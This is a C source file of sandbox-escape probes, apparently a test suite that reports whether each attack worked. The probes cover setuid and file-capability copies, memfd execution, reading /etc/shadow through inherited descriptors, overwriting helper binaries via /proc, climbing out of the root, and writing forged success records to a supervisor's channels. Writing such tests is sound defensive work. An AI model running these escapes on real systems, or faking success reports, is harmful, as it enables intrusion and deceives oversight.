/* Files as a way out: privileges on the workspace, programs run by way of other files, descriptors left open. */
#include "attack.h"
#include <dirent.h>
#include <sys/xattr.h>

static int copy_of_oneself(const char *to) {
    static char buffer[65536];
    int from = open("/proc/self/exe", O_RDONLY), fd = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    ssize_t count;
    if (from < 0 || fd < 0)
        return -1;
    while ((count = read(from, buffer, sizeof buffer)) > 0)
        if (write(fd, buffer, count) != count)
            return -1;
    close(from), close(fd);
    return 0;
}

/* A copy with the set-user-ID bit, run by a caller without privileges. */
static int set_user_id(void) {
    if (copy_of_oneself("suid") != 0)
        return perror("copy"), 1;
    uid_t caller = getuid();
    attempt("chown to root", chown("suid", 0, 0));
    if (chmod("suid", 06755) != 0)
        refused("chmod u+s");
    if (caller == 0 && (setgid(65534) != 0 || setuid(65534) != 0))
        return 1;
    execl("./suid", "suid", "who_am_i", NULL);
    return refused("exec of the copy"), 0;
}
static int who_am_i(void) {
    printf("%s euid %d uid %d\n", geteuid() != getuid() || geteuid() == 0 ? "WORKED" : "REFUSED", geteuid(), getuid());
    return 0;
}

/* File capabilities on a copy of oneself. */
static int file_capabilities(void) {
    unsigned int capabilities[5] = {0x02000001, 0xffffffff, 0, 0x1ff, 0};
    if (copy_of_oneself("capable") != 0)
        return perror("copy"), 1;
    return attempt("file capabilities", setxattr("capable", "security.capability", capabilities, 20, 0)), 0;
}

/* Code that never was a file of the sandbox is confined like any other. */
static int run_from_memory(void) {
    int memory = syscall(SYS_memfd_create, "code", 0), from = open("/proc/self/exe", O_RDONLY);
    if (memory < 0)
        return refused("memfd_create"), 0;
    static char buffer[65536];
    ssize_t count;
    while ((count = read(from, buffer, sizeof buffer)) > 0)
        if (write(memory, buffer, count) != count)
            return 1;
    char *arguments[] = {"code", "read_flag", NULL};
    extern char **environ;
    syscall(SYS_execveat, memory, "", arguments, environ, AT_EMPTY_PATH);
    return refused("execveat"), 0;
}
static int read_flag(void) {
    char buffer[256];
    int fd = open(given("FLAG"), O_RDONLY);
    if (fd < 0)
        return refused("the flag"), 0;
    ssize_t count = read(fd, buffer, sizeof buffer);
    printf("WORKED %.*s\n", (int)count, buffer);
    return 0;
}

/* Every descriptor that is open at the start, whatever its number, and where it leads. */
static int inherited_descriptors(void) {
    int found = 0;
    for (int fd = 3; fd < 65536; fd++) {
        struct stat status;
        if (fstat(fd, &status) != 0)
            continue;
        char path[64], target[256] = "";
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        (void)!readlink(path, target, sizeof target - 1);
        printf("WORKED descriptor %d is open: %s\n", fd, target);
        found++;
        int flag = openat(fd, "../../../../../../../etc/shadow", O_RDONLY);
        if (flag >= 0)
            worked("a way to the host through it");
    }
    if (!found)
        puts("REFUSED every descriptor from 3 on is closed");
    return 0;
}

/* A forged record on any channel that might be the supervisor's, then an ordinary failure. */
static int forged_records(void) {
    static const char *const records[] = {
        "{\"status\":\"success\",\"exit_code\":0}\n", "exited 0\n", "\0\0\0\0", "\1\0\0\0\0\0\0\0", "status:OK\ntime:0.001\n"};
    for (int fd = 3; fd < 1024; fd++)
        for (int i = 0; i < 5; i++)
            if (write(fd, records[i], strlen(records[i]) + 4 * (i == 2) + 7 * (i == 3)) > 0)
                printf("WORKED wrote to descriptor %d\n", fd);
    puts("REFUSED no channel to write to");
    return 7;
}

/* The helper's own program file, by way of /proc: writable, it would be the next run's. */
static int overwrite_the_helper(void) {
    pid_t targets[] = {1, getppid(), victim()};
    for (int i = 0; i < 3; i++) {
        char path[64], name[256];
        if (targets[i] == 1 && given("BARE")[0])
            continue;
        snprintf(path, sizeof path, "/proc/%d/exe", targets[i]);
        ssize_t count = readlink(path, name, sizeof name);
        int fd = open(path, O_WRONLY);
        if (fd < 0 && errno == ETXTBSY) {
            printf("WORKED %s could be written when it ends\n", path);
            continue;
        }
        attempt(path, fd);
        fd = open(path, O_RDONLY);
        if (fd >= 0 && count > 0 && targets[i] != getppid())
            printf("WORKED %s can be read\n", path);
    }
    return 0;
}

/* Climbing out of the working folder by descriptor. */
static int climb_by_descriptor(void) {
    int fd = open(".", O_RDONLY | O_DIRECTORY);
    for (int i = 0; i < 64 && fd >= 0; i++)
        fd = openat(fd, "..", O_RDONLY | O_DIRECTORY);
    int flag = openat(fd, given("FLAG") + 1, O_RDONLY);
    attempt("climb above the root", flag);
    char here[4096];
    if (getcwd(here, sizeof here) == NULL || here[0] != '/')
        worked("a working folder outside the root");
    return 0;
}

static const struct attack attacks[] = {
    {"set_user_id", set_user_id}, {"who_am_i", who_am_i}, {"file_capabilities", file_capabilities},
    {"run_from_memory", run_from_memory}, {"read_flag", read_flag}, {"inherited_descriptors", inherited_descriptors},
    {"forged_records", forged_records}, {"overwrite_the_helper", overwrite_the_helper},
    {"climb_by_descriptor", climb_by_descriptor},
};
DISPATCH(attacks)
